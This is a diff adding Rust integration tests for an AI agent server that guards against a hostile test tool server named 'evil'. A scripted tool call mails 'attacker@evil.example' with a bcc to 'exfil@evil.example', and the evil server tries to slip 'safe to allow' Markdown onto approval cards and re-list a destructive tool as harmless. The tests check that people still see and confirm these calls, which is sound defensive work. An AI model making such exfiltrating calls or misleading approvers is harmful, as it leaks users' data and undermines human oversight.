@@ -318,6 +318,84 @@ async fn evil_ready(server: &TestServer) {
     panic!("evil did not become ready: {:?}", capabilities(server).await.external_servers);
 }
 
+/// A server with `evil` registered, the scripted model `script`, and `env`.
+async fn with_evil(dir: &Path, script: &ScriptFile, extra_config: &str, env: &[(&str, &str)]) -> TestServer {
+    let cfg = hostile_config(dir, extra_config);
+    let mut all = script.env().to_vec();
+    all.extend_from_slice(env);
+    let server = TestServer::start_with_env(&["--config", cfg.to_str().unwrap()], &all);
+    evil_ready(&server).await;
+    server
+}
+
+/// The card of a call to an external tool is written in aware's words: the server and the tool's
+/// name, the tool's own title as bounded plain text (no Markdown emphasis to pass for aware's),
+/// and every argument — a long one folded, with the count of characters folded, never cut off so
+/// that a later argument goes unseen. Such a call cannot be allowed for a while: aware cannot tell
+/// which of an external tool's arguments name what it acts on.
+#[tokio::test]
+async fn an_external_tools_card_shows_every_argument_in_awares_words() {
+    let dir = tempfile::tempdir().unwrap();
+    let body = "Dear team, ".repeat(40);
+    let script = ScriptFile::new(&json!({"replies": [
+        {"when": "zz mail", "turns": [
+            {"tool_calls": [{"name": "evil.send", "arguments": {
+                "subject": "weather", "body": body, "to": "attacker@evil.example", "zzz_bcc": "exfil@evil.example"
+            }}]},
+            {"chunks": ["Done."]}
+        ]}
+    ]}));
+    let server = with_evil(dir.path(), &script, "", &[]).await;
+    let client = server.client(None).await;
+    let sent = client.send_message("", "zz mail", "").await.unwrap();
+    let mut chat = server.chat().await;
+    let events = follow(&client, &sent.run_id, |c| {
+        assert_eq!(c.tool_name, "evil.send");
+        let card = &c.description;
+        for shown in ["evil.send", "MCP server evil", "subject", "\"weather\"", "body", "to", "attacker@evil.example"] {
+            assert!(card.contains(shown), "{shown:?} is on the card: {card}");
+        }
+        assert!(card.contains("zzz_bcc") && card.contains("exfil@evil.example"), "the last argument too: {card}");
+        assert!(card.contains("characters folded"), "the card says what it folded: {card}");
+        assert!(card.contains("Look up today's weather"), "the tool's own title, as text: {card}");
+        assert!(!card.contains("**") && !card.contains("safe to allow**"), "no Markdown from the server: {card}");
+        assert!(!c.grantable, "an external tool's call is not allowed for a while: {c:?}");
+        false
+    })
+    .await;
+    assert!(events.iter().any(|e| matches!(&e.payload, Some(P::ConfirmationRequired(_)))));
+
+    // Even asked directly, a session grant for it is refused.
+    let again = client.send_message("", "zz mail", "").await.unwrap();
+    let card = loop {
+        let page = server
+            .runs()
+            .await
+            .list_run_events(pb::ListRunEventsRequest { run_id: again.run_id.clone(), after_seq: 0, limit: 0 })
+            .await
+            .unwrap()
+            .into_inner();
+        if let Some(c) = page.events.iter().find_map(|e| match &e.payload {
+            Some(P::ConfirmationRequired(c)) => Some(c.clone()),
+            _ => None,
+        }) {
+            break c;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    };
+    let grant = chat
+        .submit_confirmation(pb::SubmitConfirmationRequest {
+            confirmation_id: card.confirmation_id.clone(),
+            approved: true,
+            scope: pb::ConfirmationScope::Session.into(),
+            duration_seconds: 300,
+            ..Default::default()
+        })
+        .await
+        .unwrap_err();
+    assert_eq!(grant.code(), tonic::Code::PermissionDenied, "{grant:?}");
+}
+
 /// Text from outside — an external tool's output, a document's passage, a dataset's description,
 /// a remembered fact — reaches the model inside markers it cannot close from within: every form
 /// of the closing marker (`»` and its look-alikes; `</PASSAGE>` in any case or spacing; a
@@ -399,4 +477,86 @@ async fn untrusted_text_cannot_close_its_markers() {
     assert!(opened >= 1, "{passages}");
     assert_eq!(passages.matches("</passage>").count(), opened, "{passages}");
     assert!(!passages.contains("</passage >") && !passages.contains('＜') && !passages.contains('‹'), "{passages}");
+}
+
+/// Annotations can only add caution: a tool listed as destructive asks a person; re-listed
+/// read-only and closed-world after `tools/list_changed`, it still asks.
+#[tokio::test]
+async fn an_external_tool_that_needed_a_card_keeps_needing_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let script = ScriptFile::new(&json!({"replies": [
+        {"when": "zz flip", "turns": [
+            {"tool_calls": [{"name": "evil.flip", "arguments": {"on": true}}]},
+            {"chunks": ["Flipped."]}
+        ]},
+        {"when": "zz relist", "turns": [
+            {"tool_calls": [{"name": "evil.relist", "arguments": {}}]},
+            {"chunks": ["Relisted."]}
+        ]}
+    ]}));
+    let server = with_evil(dir.path(), &script, "", &[]).await;
+    let first = run(&server, "zz flip", false).await;
+    assert!(
+        first.iter().any(|e| matches!(&e.payload, Some(P::ConfirmationRequired(c)) if c.tool_name == "evil.flip")),
+        "destructive: asked"
+    );
+    let relisted = run(&server, "zz relist", true).await;
+    assert!(results(&relisted).iter().all(|r| !r.is_error), "{:?}", results(&relisted));
+    // The new list (with a new tool, `extra`) arrives with the notification; wait until aware
+    // has read it.
+    let mut caps = capabilities(&server).await;
+    for _ in 0..100 {
+        if caps.tools.iter().any(|t| t.name == "evil.extra") {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        caps = capabilities(&server).await;
+    }
+    let flip = caps.tools.iter().find(|t| t.name == "evil.flip").unwrap();
+    assert!(caps.tools.iter().any(|t| t.name == "evil.extra"), "the new list was read");
+    assert!(flip.risk.as_ref().unwrap().destructive, "its risk stays as it was: {flip:?}");
+    let again = run(&server, "zz flip", false).await;
+    assert!(
+        again.iter().any(|e| matches!(&e.payload, Some(P::ConfirmationRequired(c)) if c.tool_name == "evil.flip")),
+        "still asked after the server called it harmless: {again:?}"
+    );
+    assert_eq!(results(&again)[0].llm_summary, "Action denied by user.", "and nothing ran");
+}
+
+/// An external tool's output is capped (`mcp.max_output_kb`): a 12 MB answer is stored cut, the
+/// cut is stated to the model and in the result the client gets, and the run stays readable with
+/// grpcurl's default 4 MiB message limit.
+#[tokio::test]
+async fn external_output_is_capped_and_the_run_stays_readable() {
+    let dir = tempfile::tempdir().unwrap();
+    let script = ScriptFile::new(&json!({"replies": [
+        {"when": "zz big", "turns": [
+            {"tool_calls": [{"name": "evil.fetch", "arguments": {"size": 12_000_000}}]},
+            {"chunks": ["Fetched."]}
+        ]}
+    ]}));
+    let server = with_evil(dir.path(), &script, "", &[]).await;
+    let events = run(&server, "zz big", true).await;
+    let result = &results(&events)[0];
+    assert!(!result.is_error, "{}", result.llm_summary);
+    assert!(result.llm_summary.contains("cut"), "the model is told: {}", result.llm_summary);
+    let Some(pb::tool_result::Rich::External(x)) = &result.rich else { panic!("{result:?}") };
+    assert!(x.result_json.len() < 3 << 20, "stored cut: {} bytes", x.result_json.len());
+    let said: serde_json::Value = serde_json::from_str(&x.result_json).unwrap();
+    let note = said["content"][1]["text"].as_str().unwrap_or_default();
+    assert!(note.starts_with("[cut by aware: the output was 12000"), "the client is told how much there was: {note}");
+
+    let run_id = events[0].run_id.clone();
+    for (method, body) in [
+        ("aware.v1.RunsService/ListRunEvents", format!("{{\"run_id\":\"{run_id}\"}}")),
+        ("aware.v1.ChatService/StreamRun", format!("{{\"run_id\":\"{run_id}\",\"after_seq\":0}}")),
+    ] {
+        let out = Command::new(installed(".tools/bin/grpcurl"))
+            .args(["-plaintext", "-d", &body, &server.addr.to_string(), method])
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(out.status.success(), "{method}: {stderr}");
+        assert!(String::from_utf8_lossy(&out.stdout).contains("runCompleted"), "{method} read the whole run");
+    }
 }
